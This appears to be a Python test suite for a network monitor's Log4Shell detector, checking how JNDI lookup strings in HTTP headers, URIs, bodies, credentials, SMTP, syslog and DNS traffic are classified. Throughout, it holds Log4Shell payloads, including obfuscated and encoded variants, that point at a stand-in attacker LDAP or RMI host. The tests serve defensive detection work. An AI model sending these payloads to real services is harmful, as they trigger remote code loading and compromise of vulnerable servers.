"""LOG4J_ATTEMPT_*: where a lookup string arrives decides the note; sub and extra describe it."""

from __future__ import annotations

import base64

from kubectl_netmon.capture.l7.events import DnsMessage, HttpRequest, HttpResponse
from tests.detect import wire
from tests.detect.harness import Hooks

ATTACKER, VICTIM = "203.0.113.7", "10.0.0.5"
LOOKUP = "${jndi:ldap://203.0.113.7:1389/a}"


def request(hooks: Hooks, **fields) -> Hooks:
    conn = hooks.conn(ATTACKER, 40000, VICTIM, 8080)
    fields.setdefault("method", "GET")
    fields.setdefault("uri", "/")
    hooks.event(conn, HttpRequest(ts_ns=hooks.tick(), version="1.1", **fields))
    hooks.end(conn)
    return hooks


def test_lookup_in_a_header_is_an_attempt_header():
    hooks = request(Hooks(), headers=[("user-agent", LOOKUP)])
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]
    assert "header name='USER-AGENT'" in hooks.notices[0].sub


def test_lookup_in_the_uri_is_an_attempt_uri():
    hooks = request(Hooks(), uri="/search?q=%24%7Bjndi:ldap://203.0.113.7:1389/a%7D")
    assert hooks.notes() == ["LOG4J_ATTEMPT_URI"]


def test_lookup_in_the_method_token_is_an_attempt_uri():
    hooks = request(Hooks(), method=LOOKUP)
    assert hooks.notes() == ["LOG4J_ATTEMPT_URI"]


def test_lookup_in_a_form_body_is_an_attempt_body():
    hooks = request(Hooks(), method="POST",
                    body=b"uname=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%3A1389%2Fa%7D&password=",
                    content_type="application/x-www-form-urlencoded")
    assert hooks.notes() == ["LOG4J_ATTEMPT_BODY"]


def test_lookup_in_basic_credentials_is_an_attempt_header():
    token = base64.b64encode(f"admin:{LOOKUP}".encode()).decode()
    hooks = request(Hooks(), headers=[("authorization", f"Basic {token}")])
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]


def test_header_without_dollar_brace_is_an_attempt_header():
    hooks = request(Hooks(), headers=[("user-agent", "jndi:ldap://203.0.113.7:1389/a")])
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]


def test_lookup_in_a_response_header_makes_the_client_the_victim():
    hooks = Hooks()
    conn = hooks.conn(VICTIM, 40000, ATTACKER, 80)
    hooks.event(conn, HttpResponse(ts_ns=hooks.tick(), status=200, reason="OK", version="1.1",
                                   headers=[("x-greeting", LOOKUP)]))
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]
    assert hooks.notices[0].extra["victim"] == VICTIM


def test_sub_carries_raw_and_normalised_text_as_sent_for_the_outputs_to_escape():
    hooks = request(Hooks(), headers=[("x-api-version", "${${lower:j}ndi:ldap://h\x1b[31m/a}")])
    sub = hooks.notices[0].sub
    assert "raw='${${lower:j}ndi:ldap://h\x1b[31m/a}'" in sub
    assert "normalised='${jndi:ldap://h\x1b[31m/a}'" in sub


def test_notice_names_target_host_port_and_scheme():
    hooks = request(Hooks(), headers=[("referer", LOOKUP)])
    extra = hooks.notices[0].extra
    assert (extra["lookup.host"], extra["lookup.port"], extra["lookup.scheme"]) == (
        "203.0.113.7", 1389, "ldap")
    assert "target=203.0.113.7:1389" in hooks.notices[0].sub


def test_notice_has_the_connection_ids():
    hooks = request(Hooks(), headers=[("user-agent", LOOKUP)])
    n = hooks.notices[0]
    assert (n.uid, n.orig_h, n.resp_h, n.resp_p, n.src, n.dst, n.p) == (
        "C1", ATTACKER, VICTIM, 8080, ATTACKER, VICTIM, 8080)


def test_lookup_in_a_non_http_stream_is_attempt_other_at_connection_end():
    hooks = Hooks()
    conn = hooks.conn(ATTACKER, 40000, VICTIM, 25)
    hooks.data(conn, True, b"HELO x\r\nMAIL FROM:<" + LOOKUP.encode() + b"@x>\r\n")
    assert hooks.notes() == []
    hooks.end(conn)
    assert hooks.notes() == ["LOG4J_ATTEMPT_OTHER"]
    assert hooks.notices[0].extra["victim"] == f"{VICTIM}:25"


def test_lookup_split_across_chunks_is_found():
    hooks = Hooks()
    conn = hooks.conn(ATTACKER, 40000, VICTIM, 7000)
    payload = b"x" * 3000 + b"%24%7B${lower:j}ndi:rmi://203.0.113.7:1099/a}" + b"y" * 100
    chunks = [(True, payload[i:i + 7]) for i in range(0, len(payload), 7)]
    hooks.talk(conn, *chunks)
    assert hooks.notes() == ["LOG4J_ATTEMPT_OTHER"]
    assert hooks.notices[0].extra["lookup.port"] == 1099


def test_trigger_split_at_the_first_byte_is_found():
    hooks = Hooks()
    conn = hooks.conn(ATTACKER, 40000, VICTIM, 7000)
    hooks.talk(conn, (True, b"a" * 100 + b"$"), (True, b"{jndi:ldap://h/a}"))
    assert hooks.notes() == ["LOG4J_ATTEMPT_OTHER"]


def test_lookup_in_a_udp_payload_is_attempt_other():
    hooks = Hooks()
    conn = hooks.conn(ATTACKER, 5000, VICTIM, 514, proto="udp")
    hooks.talk(conn, (True, b"<13>app: login failed for " + LOOKUP.encode()))
    assert hooks.notes() == ["LOG4J_ATTEMPT_OTHER"]


def test_http_stream_reported_from_its_event_is_not_reported_again_as_other():
    hooks = Hooks()
    conn = hooks.conn(ATTACKER, 40000, VICTIM, 8080)
    raw = f"GET / HTTP/1.1\r\nUser-Agent: {LOOKUP}\r\n\r\n".encode()
    hooks.data(conn, True, raw)
    hooks.event(conn, HttpRequest(ts_ns=hooks.tick(), method="GET", uri="/", version="1.1",
                                  headers=[("user-agent", LOOKUP)]))
    hooks.end(conn)
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]


def test_same_attempt_repeated_is_suppressed_and_counted():
    hooks = Hooks()
    for _ in range(3):
        request(hooks, headers=[("user-agent", LOOKUP)])
    assert hooks.notes() == ["LOG4J_ATTEMPT_HEADER"]
    assert hooks.notices[0].extra["suppressed"] == 2


def test_benign_template_in_a_header_is_not_an_attempt():
    hooks = request(Hooks(), headers=[("x-template", "Hello ${user.name}")], body=b"${HOME}")
    assert hooks.notices == []


def test_lookup_in_a_dns_query_name_is_attempt_other_with_the_dotted_host():
    hooks = Hooks()
    conn = hooks.conn(ATTACKER, 5353, VICTIM, 53, proto="udp")
    name = "${jndi:ldap://cb.evil.example/a}"
    hooks.data(conn, True, wire.dns_query(name))
    hooks.event(conn, DnsMessage(ts_ns=hooks.tick(), trans_id=0x1234, is_response=False,
                                 query=name))
    hooks.end(conn)
    assert hooks.notes() == ["LOG4J_ATTEMPT_OTHER"]
    assert hooks.notices[0].extra["lookup.host"] == "cb.evil.example"
